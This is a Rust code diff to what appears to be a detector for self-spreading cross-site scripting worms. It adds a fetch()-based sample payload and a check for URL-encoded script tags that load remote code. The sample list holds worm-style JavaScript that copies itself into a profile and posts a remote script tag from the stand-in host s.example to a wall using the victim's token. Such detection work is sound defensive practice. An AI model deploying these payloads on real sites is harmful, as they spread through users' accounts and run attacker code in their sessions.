@@ -18,6 +18,7 @@ pub(super) const SIGNAL: Signal = Signal {
         with: &[
             "(function(){var s='<script>('+arguments.callee.toString()+')()</script>';var x=new XMLHttpRequest();x.open('POST','/me/about');x.send('about='+encodeURIComponent(s))})()",
             r#"$.post('/wall/7',{text:'look '+'<script src="//s.example/a.js"></script>',token:t})"#,
+            r#"fetch('/wall/7',{method:'POST',body:'token='+t+'&text='+encodeURIComponent('<script src=//s.example/a.js></script>')})"#,
         ],
         without: &[
             "var t='<script src=\"//cdn.example/a.js\"></script>';document.write(t);$.post('/log',{page:location.href})",
@@ -85,5 +86,9 @@ fn loads_script(text: &str) -> bool {
     let loads = ["import(", "getscript", "createelement(", ".src="].iter().any(|word| text.contains(word));
     let coded =
         text.contains("onerror%3d") && (text.contains("createelement%28") || text.contains("import%28"));
-    tag || handler && loads || coded
+    let coded_tag = text.find("%3cscript").is_some_and(|at| {
+        let tag = &text[at..];
+        tag.find("src%3d").is_some_and(|src| tag[src..].contains("%2f%2f"))
+    });
+    tag || handler && loads || coded || coded_tag
 }
